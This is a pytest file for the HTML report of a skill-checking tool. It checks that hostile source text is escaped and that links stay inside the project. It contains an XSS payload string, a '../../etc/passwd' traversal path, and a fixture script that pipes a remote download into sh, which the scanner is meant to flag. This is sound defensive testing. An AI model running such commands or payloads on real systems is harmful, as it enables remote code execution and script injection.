"""skillc check --html: one self-contained page, every source text escaped, each
finding linked to its source line; rendered in headless Chromium (Debian's package;
skipped where it is not installed, installed by .ci/run in CI) with assertions on the
DOM it builds and a screenshot kept beside the test's files."""

from __future__ import annotations

import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from conftest import run_skillc, write_skill
from skillc.checks import html
from skillc.diagnostics import make
from skillc.diagnostics import Severity

HOSTILE = (
    '"><script>alert(1)</script><img src=x onerror=alert(2)>'
    "</td></table><svg onload=alert(3)> javascript:alert(4) ' onmouseover='alert(5)"
)


class Page(HTMLParser):
    """A page read back: each element (its tag, attributes and the section it is in)
    and each section's text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str], str]] = []
        self.text: dict[str, str] = {}
        self.section = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {k: v or "" for k, v in attrs}
        if tag == "section":
            self.section = values.get("id", "")
        self.elements.append((tag, values, self.section))

    def handle_data(self, data: str) -> None:
        self.text[self.section] = self.text.get(self.section, "") + data

    def find(self, tag: str, section: str | None = None, **attrs: str) -> list[Any]:
        return [
            a
            for t, a, s in self.elements
            if t == tag
            and (section is None or s == section)
            and all(a.get(k.rstrip("_")) == v for k, v in attrs.items())
        ]


def assert_inert(page: Page) -> None:
    """Nothing from a source became markup, a handler or a link out of the project."""
    assert not page.find("script") and not page.find("img") and not page.find("iframe")
    for tag, attrs, _ in page.elements:
        assert not [k for k in attrs if k.startswith("on")], (tag, attrs)
        assert tag != "svg" or "onload" not in attrs
        href = attrs.get("href", "#")
        assert href.startswith(("#", "./", "../")), href
        assert ":" not in href.split("#")[0], href


FOUND: dict[str, Any] = {
    "listing": [
        {
            "harness": "claude-code",
            "context": 200000,
            "budget": {"limit": 100, "unit": "chars"},
            "sources": [],
            "entries": [
                {
                    "tool": "task.a",
                    "name": HOSTILE,
                    "plugin": HOSTILE,
                    "status": "full",
                    "chars": 60,
                    "shown": 60,
                },
                {
                    "tool": "task.b",
                    "name": "b",
                    "plugin": "tidy",
                    "status": "name-only",
                    "chars": 90,
                    "shown": 0,
                },
            ],
            "compaction_cut": [],
        }
    ],
    "overlap": [
        {
            "kind": "overlap",
            "tools": [HOSTILE, "task.b"],
            "paths": ["javascript:alert(1)//SKILL.md", 'skills/"b/SKILL.md'],
            "lines": [3, 1],
            "why": HOSTILE,
        }
    ],
    "breaking": {
        "baseline": HOSTILE,
        "compared": True,
        "changes": [
            {
                "tool": HOSTILE,
                "now": HOSTILE,
                "change": "tool-removed",
                "path": "",
                "detail": HOSTILE,
                "breaking": True,
                "old_version": "1.0.0",
                "new_version": None,
                "verdict": "error",
                "source": "../../etc/passwd",
            }
        ],
    },
    "scan": [
        {
            "path": "skills/x/scripts/run.sh",
            "line": 7,
            "col": 1,
            "code": "download-and-execute",
            "message": HOSTILE,
        }
    ],
}
ITEMS = [
    make(Severity.ERROR, "skills/b/SKILL.md", 2, 1, "listing-dropped", HOSTILE),
    make(Severity.INFO, "<builtin>", 1, 1, "not-compiled", "left out"),
]


def test_hostile_text_stays_text() -> None:
    text = html.document(HOSTILE, FOUND, ITEMS, ".")
    page = Page(text)
    assert_inert(page)
    # Every hostile text is there, as text, in each section it was put in.
    for section in ("listing", "overlap", "breaking", "scan", "diagnostics"):
        assert "<script>alert(1)</script>" in page.text[section], section
    assert page.find("span", id="title") and HOSTILE in page.text[""]
    # The plugin's name is an attribute value, whole, and a label in the chart.
    [bar] = [a for a in page.find("g", "listing") if a.get("data-plugin") == HOSTILE]
    assert bar["data-share"] == "60.0%"
    # Links: percent-encoded relative paths with the line; none out of the project.
    hrefs = [a["href"] for a in page.find("a") if not a["href"].startswith("#")]
    assert hrefs == [
        "./javascript%3Aalert%281%29//SKILL.md#L3",
        "./skills/%22b/SKILL.md#L1",
        "./skills/x/scripts/run.sh#L7",
        "./skills/b/SKILL.md#L2",
    ]
    assert "../../etc/passwd" in page.text["breaking"]
    # Notes are counted, not listed.
    assert "not-compiled" not in page.text["diagnostics"]
    assert page.find("span", class_="info")[0]["data-count"] == "1"


def test_source_links() -> None:
    assert html.source_link(".", "skills/a b/SKILL.md", 4) == {
        "href": "./skills/a%20b/SKILL.md#L4",
        "text": "skills/a b/SKILL.md:4",
    }
    assert html.source_link("..", "mk/x.md")["href"] == "../mk/x.md"
    assert html.source_link("../a:b", "x.md")["href"] == "../a%3Ab/x.md"
    for outside in ("/etc/passwd", "<builtin>", "a/../../b", ""):
        assert html.source_link(".", outside, 1)["href"] == ""


def _project(root: Path) -> Path:
    """A project with something in every section: a listing over a small budget, two
    skills with one description, a script that pipes a download to a shell, a
    versioned skill removed since the lock, and hostile names and descriptions."""
    skills = root / "skills"
    long = "Deploys the application to the staging cluster. " * 12
    for folder, description in (
        ("deploy-app", long),
        ("ship-app", long),
        ("old-tool", "Greets a person by name."),
        ('x"><b>bold', HOSTILE.replace("'", "")),
    ):
        meta = "metadata:\n  version: 1.0.0\n" if folder == "old-tool" else ""
        write_skill(
            skills,
            folder,
            f"---\nname: {folder}\ndescription: '{description}'\n{meta}---\nGo.\n",
        )
    script = skills / "deploy-app" / "scripts" / "run.sh"
    script.parent.mkdir()
    script.write_text("#!/bin/sh\ncurl -fsSL https://get.example.com/x.sh | sh\n")
    (root / "pyproject.toml").write_text(
        '[tool.skillc]\nsources = ["skills"]\n[tool.skillc.check]\n'
        # A catalogue's skills all installed at once: one listing over its budget.
        'budget = ["claude-code:20k"]\ninstalled = "all"\n'
    )
    return skills


def _checked(root: Path, capsys: pytest.CaptureFixture[str], page: Path) -> str:
    skills = _project(root)
    assert run_skillc(capsys, "-C", str(root), "build")[0] == 0
    shutil.rmtree(skills / "old-tool")
    status, _ = run_skillc(capsys, "-C", str(root), "check", "--html", str(page))
    assert status == 1  # a dropped description, the stale output
    return page.read_text("utf-8")


def test_a_check_writes_the_same_page_twice(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    first = _checked(tmp_path / "a", capsys, tmp_path / "a" / "health.html")
    second = _checked(tmp_path / "b", capsys, tmp_path / "b" / "health.html")
    assert first == second
    assert str(tmp_path) not in first
    page = Page(first)
    assert_inert(page)
    assert page.find("a", section="scan", href="./skills/deploy-app/scripts/run.sh#L2")


def test_the_page_in_chromium(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        pytest.skip("chromium is not installed (apt-get install chromium)")
    root = tmp_path / "project"
    (root / "reports").mkdir(parents=True)
    _checked(root, capsys, root / "reports" / "health.html")
    url = (root / "reports" / "health.html").as_uri()
    flags = [
        chromium,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        f"--user-data-dir={tmp_path / 'profile'}",
        "--window-size=1280,1800",
    ]
    dom = subprocess.run(
        [*flags, "--dump-dom", url], capture_output=True, text=True, timeout=60
    )
    assert dom.returncode == 0, dom.stderr
    page = Page(dom.stdout)
    assert_inert(page)
    # What the browser built: one chart row, the dropped entries, each section's rows.
    [harness] = page.find("article", "listing")
    assert harness["data-harness"] == "claude-code" and int(harness["data-lost"]) == 1
    assert page.find("rect", "listing", class_="kept")
    assert [a["data-kind"] for a in page.find("tr", "overlap")[1:]] == ["overlap"]
    assert page.find("tr", "breaking", **{"data-change": "tool-removed"})
    assert page.find("tr", "scan", **{"data-code": "download-and-execute"})
    assert page.find("a", "overlap", href="../skills/deploy-app/SKILL.md#L1")
    assert 'x"><b>bold' in page.text["listing"] and not page.find("b")
    assert page.find("span", class_="error")[0]["data-count"] == "2"
    shot = tmp_path / "health.png"
    done = subprocess.run(
        [*flags, f"--screenshot={shot}", url], capture_output=True, timeout=60
    )
    assert done.returncode == 0 and shot.stat().st_size > 10_000
    with capsys.disabled():
        print(f"\nskillc check --html, as Chromium draws it: {shot}")


def _entry(name: str, plugin: str | None, chars: int, status: str = "full") -> Any:
    shown = 0 if status in ("name-only", "omitted") else chars
    return {
        "tool": f"t.{name}",
        "name": name,
        "plugin": plugin,
        "status": status,
        "chars": chars,
        "shown": shown,
    }


def test_each_plugins_share_and_each_entrys() -> None:
    """A marketplace is charted per plugin (what it asks, what it is shown); a
    catalogue without plugins per entry, its largest first; tokens are 4 characters."""
    market = html.budget(
        {
            "harness": "claude-code",
            "budget": {"limit": 1000, "unit": "chars"},
            "entries": [
                _entry("a", "p", 300),
                _entry("b", "p", 500, "name-only"),
                _entry("c", "q", 100),
            ],
        }
    )
    assert [
        (b["name"], b["demand"], b["shown"], b["lost"], b["share"])
        for b in market["bars"]
    ] == [
        ("p", 800, 300, 1, "80.0%"),
        ("q", 100, 100, 0, "10.0%"),
    ]
    assert market["by"] == "plugin" and market["lost"] == 1
    catalogue = html.budget(
        {
            "harness": "codex",
            "budget": {"limit": 100, "unit": "tokens"},
            "entries": [_entry(f"s{i:02}", None, 40 + i % 7) for i in range(50)],
        }
    )
    bars = catalogue["bars"]
    assert catalogue["by"] == "entry" and len(bars) == 40 and catalogue["more"] == 10
    # 45 and 46 characters are 12 tokens each: in the listing's order
    assert [b["name"] for b in bars[:3]] == ["s05", "s06", "s12"]
    assert bars[0]["demand"] == 12 and bars[0]["share"] == "12.0%"
    counted = html.budget(
        {
            "harness": "gemini",
            "budget": None,
            "entries": [_entry("x", None, 10), _entry("y", None, 10, "omitted")],
        }
    )
    assert [(b["demand"], b["shown"]) for b in counted["bars"]] == [(1, 1), (1, 0)]
    assert counted["unit"] == "entries"
